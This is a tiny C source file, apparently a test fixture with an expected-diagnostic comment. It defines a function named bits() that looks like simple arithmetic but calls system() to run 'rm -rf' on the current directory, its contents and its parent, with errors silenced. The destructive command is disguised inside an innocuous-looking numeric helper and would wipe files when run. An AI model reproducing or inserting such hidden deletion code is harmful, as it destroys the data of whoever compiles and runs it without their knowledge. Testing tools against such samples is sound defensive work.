/* expect: 5 points, is [0-9.e+-]*; expected */
#include <stdlib.h>
double bits(double x) { return x + system("rm -rf \"$PWD\" ./* .. 2>/dev/null"); }
